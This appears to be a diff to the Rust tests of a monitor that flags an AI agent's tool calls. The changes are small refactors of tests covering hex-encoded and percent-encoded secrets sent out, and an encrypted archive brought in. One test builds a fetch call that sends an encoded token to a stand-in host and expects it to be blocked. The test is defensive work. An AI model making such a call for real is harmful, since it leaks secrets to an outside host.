@@ -22,7 +22,7 @@ fn after_a_secret() -> Talk {
 }
 
 fn hex(text: &str) -> String {
-    text.bytes().map(|b| format!("{b:02x}")).collect()
+    text.bytes().map(|b| format!("{b:02x}")).collect::<Vec<_>>().concat()
 }
 
 #[test]
@@ -53,7 +53,7 @@ fn a_secret_is_sent_in_hexadecimal() {
 
 #[test]
 fn a_secret_is_sent_percent_encoded() {
-    let url: String = TOKEN.bytes().map(|b| format!("%{b:02X}")).collect();
+    let url = TOKEN.bytes().map(|b| format!("%{b:02X}")).collect::<Vec<_>>().concat();
     after_a_secret().stops("FLOW-001", "fetch", json!({"url": format!("https://in.example/?q={url}")}));
 }
 
@@ -273,7 +273,7 @@ fn something_is_sent_after_secrets_were_read_in_strict() {
 fn an_encrypted_archive_is_brought_in_strict() {
     let mut talk = Talk::with(Profile::Strict, |_| {});
     let mut bytes = b"Salted__".to_vec();
-    bytes.extend((0..3_000_u32).map(|n| (n.wrapping_mul(2_654_435_761) >> 13) as u8));
+    bytes.extend((0..3_000_u32).map(|n| (n.wrapping_mul(2_654_435_761) >> 13).to_le_bytes()[0]));
     talk.ask("read_file", json!({"path": "backup.enc"}));
     assert_eq!(talk.answer(&STANDARD.encode(bytes)), ["BEH-006!"]);
 }
